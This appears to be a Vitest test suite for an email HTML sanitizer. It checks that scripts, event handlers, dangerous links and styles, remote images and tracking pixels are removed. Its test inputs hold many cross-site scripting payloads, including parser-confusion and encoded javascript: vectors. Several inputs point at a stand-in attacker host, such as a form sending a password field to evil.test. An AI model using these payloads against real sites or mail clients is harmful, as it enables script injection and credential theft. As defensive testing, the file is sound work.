import { describe, expect, it } from "vitest";
import { sanitizeForDisplay } from "./sanitize-for-display";

const inlineImageUrl = (contentId: string) => (contentId === "logo@acme.test" ? "1/cid/logo@acme.test" : null);

const shown = (html: string) => sanitizeForDisplay(html, { withRemoteImages: false, inlineImageUrl });
const shownWithImages = (html: string) => sanitizeForDisplay(html, { withRemoteImages: true, inlineImageUrl }).html;

/** The tags whose ends are missing, or that end what was never begun. */
function unbalanced(html: string): string[] {
  const open: string[] = [];
  for (const [, slash, name = ""] of html.matchAll(/<(\/?)([a-z0-9]+)(?:"[^"]*"|[^">])*>/g)) {
    if (["img", "br", "hr", "wbr", "col"].includes(name)) continue;
    if (slash === "") open.push(name);
    else if (open.at(-1) === name) open.pop();
    else return [...open, `/${name}`];
  }
  return open;
}

describe("nothing runs", () => {
  it.each([
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.test/x.js></SCRIPT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<div onclick="alert(1)" onmouseover=alert(1)>a</div>',
    "<body onload=alert(1)>a</body>",
    "<details open ontoggle=alert(1)>a</details>",
    "<svg onload=alert(1)><script>alert(1)</script><a xlink:href='javascript:alert(1)'>a</a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><svg><svg><style><img src=x onerror=alert(1)></style></svg></svg></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<iframe src='javascript:alert(1)' srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'><embed src=x></object>",
    "<form action='https://evil.test'><input name=password><button formaction='javascript:alert(1)'>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'><base href='https://evil.test/'>",
    "<link rel=stylesheet href='https://evil.test/x.css'><style>@import 'https://evil.test/x.css'</style>",
    "<video src='https://evil.test/v' poster='https://evil.test/p' onerror=alert(1)></video>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a style='background:url(javascript:alert(1))'>a</a>",
    "<p style='width:expression(alert(1));-moz-binding:url(//evil.test)'>a</p>",
    '<plaintext><img src=x onerror="alert(1)">',
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<p><img src='data:x'></p><div>a</div><img><span>b</span>",
    "<div><image src='https://evil.test/x'>a<p>b</p></div><b>c</b>",
    "<body><p>a<body style='color:red'><div>b</div></body></p>",
    '<a href="x" id=x name=body tabindex=1 accesskey=x contenteditable autofocus onfocus=alert(1)>a</a>',
  ])("%s", (html) => {
    const out = shown(html).html;
    const tags = [...out.matchAll(/<\/?([a-z0-9-]*)((?:"[^"]*"|[^>"])*)>/gi)];
    for (const [, name, attributes = ""] of tags) {
      expect(["a", "p", "div", "span", "img", "table", "br", "b"]).toContain(name);
      expect(attributes.replace(/"[^"]*"/g, "")).not.toMatch(/\bon|srcdoc|action|\bid\b|name|focus/i);
    }
    expect(out).not.toMatch(/evil\.test|javascript:/i);
    expect(out.replaceAll(/<[^>]*>/g, "")).not.toContain("<");
    expect(unbalanced(out)).toEqual([]);
  });
});

it.each([
  "<svg>",
  "<math><mtext>",
  "<object>",
  "<template>",
  "<noscript>",
  "<select><option>",
  "<video>",
  "<form>",
  "<table>",
])("%s that is left open swallows nothing", (tag) => {
  expect(shown(`<p>a</p>${tag}<p>b</p>`).html).toContain("<p>b</p>");
});

describe("links", () => {
  it.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \u0001javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61vascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "blob:https://evil.test/1",
    "file:///etc/passwd",
    "filesystem:https://a/1",
    "//[not-a-host",
    "/w/demo/settings",
    "#top",
    "",
  ])("%j is none", (href) => {
    expect(shown(`<a href="${href}">a</a>`).html).toBe("<a>a</a>");
  });

  it("to the web, to mail and to telephones open apart and tell nothing", () => {
    const apart = 'target="_blank" rel="noopener noreferrer nofollow"';
    const framed = '<a target="_top" rel="opener" href="https://a.test/x?y=1&amp;z=2" ping="https://b.test">a</a>';
    expect(shown(framed).html).toBe(
      '<a target="_blank" rel="noopener noreferrer nofollow" href="https://a.test/x?y=1&amp;z=2">a</a>',
    );
    expect(shown('<a href="//a.test/x">a</a>').html).toBe(`<a href="https://a.test/x" ${apart}>a</a>`);
    expect(shown('<a href="mailto:ada@a.test">a</a><a href="tel:+49301">b</a>').html).toBe(
      `<a href="mailto:ada@a.test" ${apart}>a</a><a href="tel:+49301" ${apart}>b</a>`,
    );
  });
});

describe("images", () => {
  const remote = [
    '<img src="https://e.test/a.png" alt="A">',
    '<img srcset="https://e.test/a.png 2x" src="http://e.test/b.png">',
    "<img src=//e.test/c.png>",
    '<td background="https://e.test/d.png">a</td>',
    '<p style="background:#fff url(https://e.test/e.png) no-repeat">a</p>',
    "<p style=\"background-image:url('https://e.test/f.png')\">a</p>",
  ].join("");

  it("from elsewhere are left out and counted, and keep their place and words", () => {
    const { html, blockedImages } = shown(remote);
    expect(html).not.toContain("e.test");
    expect(blockedImages).toBe(6);
    expect(shown('<img src="https://e.test/a.png" alt="A &lt;b>" width=300 height=40>').html).toBe(
      '<span class="blocked-image" title="This image is not loaded" style="width:300px;height:40px;">A &lt;b&gt;</span>',
    );
  });

  it("are shown when asked for, except those that only watch", () => {
    const html = shownWithImages(`${remote}<img src="https://e.test/pixel.gif" width="1" height=1>`);
    for (const name of ["a", "b", "c", "d", "e", "f"]) expect(html).toContain(`//e.test/${name}.png`);
    expect(html).not.toContain("pixel");
    expect(html).not.toContain("srcset");
  });

  it("that travel with the message come from there; others of that kind, data: and svg do not", () => {
    expect(shown('<img src="cid:logo@acme.test" alt="Acme">').html).toContain('src="1/cid/logo@acme.test"');
    const dead = '<img src="cid:other@x"><img src="data:image/svg+xml,<svg/onload=alert(1)>"><img src="/w/x">';
    expect(shown(dead)).toMatchObject({ html: "<img /><img /><img />", blockedImages: 0 });
  });
});

describe("styles", () => {
  it("keep type, boxes and tables", () => {
    const style =
      "font:bold 12px/1.5 'Segoe UI', Arial;color:#0b6e76;padding:4px 8px;width:1200px;background:#222222;border:1px solid rgb(1, 2, 3)";
    expect(shown(`<p style="${style}">a</p>`).html).toBe(`<p style="${style}">a</p>`);
  });

  it.each([
    "position:fixed;top:0;left:0;z-index:9999",
    "pos\\69tion:fixed",
    "margin:-400px",
    "margin-top:calc(1px - 900px)",
    "height:100vh",
    "height:9999px",
    "padding:1px 20000em",
    "transform:translate(0,-900px)",
    "animation:x 1s infinite",
    "cursor:url(https://e.test/c.cur),auto",
    "list-style:url(https://e.test/l.png)",
    "background:image-set('https://e.test/1.png' 1x)",
    "background:u\\72l(https://e.test/1.png)",
    "background:url(data:image/svg+xml;base64,AAAA)",
    "font-family:'a;b'}body{color:red",
    "content:'x'",
    "--x:url(https://e.test)",
    "color:var(--x)",
    "color:red/*x*/;b\0ackground:url(x)",
  ])("lose %j", (style) => {
    expect(shown(`<p style="${style}">a</p>`).html).toMatch(/^<p(?: style="(?:color:red\/)?")?>a<\/p>$|^<p>a<\/p>$/);
  });
});

describe("paper", () => {
  it.each([
    ['<p style="color:#222;background:white">a</p>', false],
    ['<p style="color:windowtext">a</p>', false],
    ["<p>a</p>", false],
    ['<font color="#ff0000">a</font>', true],
    ['<table bgcolor="f4f4f4"><tr><td>a</td></tr></table>', false],
    ['<table bgcolor="003366"><tr><td style="color:#fff">a</td></tr></table>', true],
    ['<body style="background-color:#eef">a</body>', true],
  ])("%s has colours of its own: %s", (html, own) => {
    expect(shown(html).hasOwnColours).toBe(own);
  });
});

it("class names of the mail do not survive, so that it cannot dress as ours", () => {
  expect(shown('<div class="tern-history blocked-image x">a</div><p class="tern-quote">b</p>').html).toBe(
    "<div>a</div><p>b</p>",
  );
});
